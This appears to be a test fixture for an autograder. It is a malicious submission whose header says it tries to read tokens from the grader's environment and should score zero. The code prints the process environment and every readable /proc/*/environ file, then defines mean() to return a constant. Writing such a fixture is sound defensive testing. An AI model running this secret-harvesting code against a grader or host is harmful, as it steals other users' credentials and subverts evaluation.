# ---
# tries: reads tokens from the environment of the grader, its own and everybody's
# points: {test_mean: 0}
# finds: {canary: false}
# ---
# %% answer mean
import glob
import os

print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    try:
        print(open(path, "rb").read())
    except OSError:
        pass

def mean(x):
    return 2
